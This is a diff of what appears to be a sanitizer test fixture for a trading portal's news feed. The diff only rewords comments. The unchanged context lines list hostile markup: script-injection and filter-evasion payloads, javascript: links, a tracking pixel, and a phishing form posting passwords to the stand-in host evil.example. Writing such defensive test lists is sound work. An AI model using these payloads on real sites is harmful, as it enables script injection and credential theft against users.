@@ -1,7 +1,7 @@
-/** Where the stories' own images may lie: the page's own origin, so that they load. */
+/** The base URL of the stories' images: the page's own origin, so they load. */
 export const imageBase = `${location.origin}/images/`;
 
-/** News as an operator would write it, with everything that may stand in it. */
+/** News by an operator, with everything that is allowed. */
 export const article = `
   <h2>Maintenance window this weekend</h2>
   <p>Trading servers restart on <b>Saturday</b> between 02:00 and 04:00 UTC. <em>Open positions are not affected.</em></p>
@@ -12,11 +12,11 @@ export const article = `
   <p><code>GET /packages</code> answers as before.</p>`;
 
 /**
- * Markup that tries to run `boom`, to reach `evil.example`, to be mistaken for the portal or to get at
- * its page. Written for this portal; each is a family of its own.
+ * Markup that tries to run `boom`, to reach `evil.example`, to imitate the portal or to access its page.
+ * Written for this portal; each is a separate family.
  */
 export const hostile: readonly string[] = [
-  // Scripts, whole and in pieces.
+  // Scripts, complete and in parts.
   '<script>boom()</script>',
   '<SCRIPT SRC="https://evil.example/a.js"></SCRIPT>',
   '<scr<script>ipt>boom()</scr</script>ipt>',
@@ -70,7 +70,7 @@ export const hostile: readonly string[] = [
   '<a href="\\\\evil.example\\x">back slashes</a>',
   '<area href="javascript:boom()" shape=default><map name=m></map>',
   '<base href="https://evil.example/">',
-  // Pictures from elsewhere.
+  // External images.
   '<img src="https://evil.example/pixel.gif?member=1">',
   '<img src="//evil.example/pixel.gif">',
   '<img src="\\\\evil.example\\pixel.gif">',
@@ -89,7 +89,7 @@ export const hostile: readonly string[] = [
   '<link rel=stylesheet href="https://evil.example/c.css">',
   '<link rel=prefetch href="https://evil.example/p">',
   '<p class="visually-hidden" id=root>class and id</p>',
-  // Forms that fish.
+  // Phishing forms.
   '<form action="https://evil.example/steal"><input name=password type=password><button>Sign In</button></form>',
   '<button formaction="javascript:boom()">Sign In</button>',
   '<input autofocus onfocus=boom()>',
@@ -105,7 +105,7 @@ export const hostile: readonly string[] = [
   '<embed src="https://evil.example/e.swf">',
   '<frameset onload=boom()><frame src="javascript:boom()"></frameset>',
   '<portal src="https://evil.example"></portal>',
-  // Drawings and formulas, and what hides in them.
+  // SVG and MathML, and their hidden content.
   '<svg onload=boom()>',
   '<svg><script>boom()</script></svg>',
   '<svg><a xlink:href="javascript:boom()"><text>t</text></a></svg>',
